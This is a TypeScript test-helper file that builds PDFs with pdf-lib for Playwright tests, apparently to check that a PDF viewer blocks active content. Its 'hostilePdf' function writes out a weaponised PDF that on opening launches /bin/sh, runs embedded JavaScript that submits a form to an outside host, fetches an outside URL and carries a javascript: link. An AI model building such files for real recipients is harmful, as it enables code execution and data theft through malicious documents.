import { PDFDocument, PDFName, PDFString, StandardFonts } from "@cantoo/pdf-lib";

/** A PDF that is not one of the demo's: a page for each list of lines. */
export async function makePdf(...pages: readonly (readonly string[])[]): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (const lines of pages) {
    const page = pdf.addPage([595, 842]);
    lines.forEach((line, i) => page.drawText(line, { x: 60, y: 770 - i * 22, size: 12, font }));
  }
  return Buffer.from(await pdf.save());
}

/** A file as Playwright hands it to a page. */
export const pdfFile = async (name: string, ...pages: readonly (readonly string[])[]) => ({
  name,
  mimeType: "application/pdf",
  buffer: await makePdf(...pages),
});

/** A PDF that would run scripts, start programs, send forms and fetch things as soon as somebody opens it in a program that lets it. */
export async function hostilePdf(outside: string): Promise<Buffer> {
  const pdf = await PDFDocument.load(await makePdf(["Innocent page", outside]));
  const { context, catalog } = pdf;
  const script = context.obj({
    Type: "Action",
    S: "JavaScript",
    JS: PDFString.of(`app.alert("ran"); this.submitForm("${outside}/form");`),
  });
  const launch = context.obj({ Type: "Action", S: "Launch", F: PDFString.of("/bin/sh"), Next: script });
  catalog.set(PDFName.of("OpenAction"), context.register(launch));
  catalog.set(PDFName.of("AA"), context.obj({ WC: script, DP: script }));
  catalog.set(PDFName.of("Names"), context.obj({ JavaScript: { Names: [PDFString.of("start"), script] } }));
  const page = pdf.getPage(0);
  page.node.set(PDFName.of("AA"), context.obj({ O: context.obj({ Type: "Action", S: "URI", URI: PDFString.of(`${outside}/opened`) }) }));
  const link = context.obj({
    Type: "Annot",
    Subtype: "Link",
    Rect: [0, 0, 595, 842],
    A: { Type: "Action", S: "URI", URI: PDFString.of("javascript:ranFromPaper()") },
  });
  page.node.set(PDFName.of("Annots"), context.obj([context.register(link)]));
  return Buffer.from(await pdf.save());
}
